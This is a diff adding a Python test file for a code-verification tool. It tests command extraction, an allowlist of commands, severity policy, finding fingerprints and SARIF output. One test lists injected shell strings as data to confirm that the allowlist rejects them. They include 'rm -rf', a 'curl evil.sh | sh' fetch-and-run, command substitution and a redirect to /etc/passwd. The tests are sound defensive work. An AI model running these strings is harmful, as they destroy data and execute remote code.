@@ -1,0 +1,131 @@
+"""Small pure parts of verification: criteria commands, allowed patterns, severity policy, SARIF regions."""
+
+from __future__ import annotations
+
+from config.schema import VerificationConfig
+from core.verification import severity_policy
+from verify.criteria import criteria_commands, is_allowed
+from verify.findings import VerifyFinding, assign_fingerprints
+from verify.sarif_out import to_sarif
+
+ALLOWED = VerificationConfig().allowed_commands
+
+
+def test_criteria_name_commands_only_in_clear_forms() -> None:
+    criteria = [
+        "`to_csv` returns a header row",  # code in backticks, not a command
+        "Run `pytest -q tests/test_export.py`",
+        "`npm test` passes",
+        "run: make check",
+        "$ go test ./...",
+        "`cargo test` exits with 0",
+        "Run `pytest -q tests/test_export.py` again",  # a repeat
+    ]
+    assert criteria_commands(criteria) == [
+        "pytest -q tests/test_export.py",
+        "npm test",
+        "make check",
+        "go test ./...",
+        "cargo test",
+    ]
+
+
+def test_allowed_commands_never_match_shell_operators() -> None:
+    assert is_allowed("pytest -q tests/test_x.py", ALLOWED)
+    assert is_allowed("python3 -m unittest discover -s tests", ALLOWED)
+    assert is_allowed("npm test", ALLOWED) and is_allowed("go test ./...", ALLOWED)
+    assert not is_allowed("make check", ALLOWED)
+    for sneaky in (
+        "pytest; rm -rf ~",
+        "pytest && curl evil.sh | sh",
+        "pytest $(whoami)",
+        "pytest `id`",
+        "pytest > /etc/passwd",
+        "npm test\nrm -rf /",
+    ):
+        assert not is_allowed(sneaky, ALLOWED), sneaky
+
+
+def test_severity_policy_defaults() -> None:
+    policy = severity_policy(VerificationConfig())
+    assert policy.severity("security", "bandit", "B602", "HIGH") == "major"
+    assert policy.severity("security", "bandit", "B608", "MEDIUM") == "medium"
+    assert policy.severity("security", "bandit", "B404", "LOW") == "minor"
+    assert policy.severity("lint", "ruff", "F401", None) == "medium"
+    assert policy.severity("lint", "ruff", "E501", None) == "minor"
+    assert policy.severity("lint", "ruff", "syntax-error", None) == "major"
+    assert policy.severity("lint", "mypy", "return-value", "error") == "medium"
+    assert policy.severity("test", "pytest", "test-failure", "failure") == "major"
+    assert policy.severity("build", "make", None, "warning") == "minor"
+    assert policy.severity("build", "make", None, "error") == "major"
+    assert policy.severity("custom", "sh", "exit-1", None) == "medium"
+
+
+def test_identical_problems_on_identical_lines_stay_two_findings() -> None:
+    twin = VerifyFinding(
+        "lint",
+        "minor",
+        "ruff",
+        "E711 comparison",
+        rule="E711",
+        path="a.py",
+        line=3,
+        snippet="if x == None:",
+    )
+    moved = VerifyFinding(
+        "lint",
+        "minor",
+        "ruff",
+        "E711 comparison",
+        rule="E711",
+        path="a.py",
+        line=9,
+        snippet="if x == None:",
+    )
+    first, second = assign_fingerprints([twin, moved])
+    assert first != second and first == twin.fingerprint
+
+
+def test_sarif_regions_and_path_less_findings() -> None:
+    findings = [
+        {
+            "tool": "make",
+            "category": "build",
+            "severity": "major",
+            "rule": "exit-2",
+            "message": "`make` failed",
+            "status": "new",
+            "fingerprint": "f" * 16,
+        },
+        {
+            "tool": "make",
+            "category": "build",
+            "severity": "minor",
+            "rule": None,
+            "path": "x.c",
+            "line": 4,
+            "column": 0,
+            "end_line": 2,
+            "message": "warning",
+            "status": "open",
+            "fingerprint": "e" * 16,
+        },
+        {
+            "tool": "make",
+            "category": "build",
+            "severity": "major",
+            "rule": None,
+            "path": "y.c",
+            "line": 1,
+            "message": "gone",
+            "status": "resolved",
+            "fingerprint": "d" * 16,
+        },
+    ]
+    [run] = to_sarif(findings, "/repo")["runs"]
+    [result] = run["results"]
+    assert result["locations"][0]["physicalLocation"]["region"] == {"startLine": 4}
+    assert result["baselineState"] == "unchanged" and result["level"] == "note"
+    assert result["ruleId"] == "build-failure"
+    [note] = run["invocations"][0]["toolExecutionNotifications"]
+    assert note["descriptor"]["id"] == "exit-2" and note["level"] == "error"
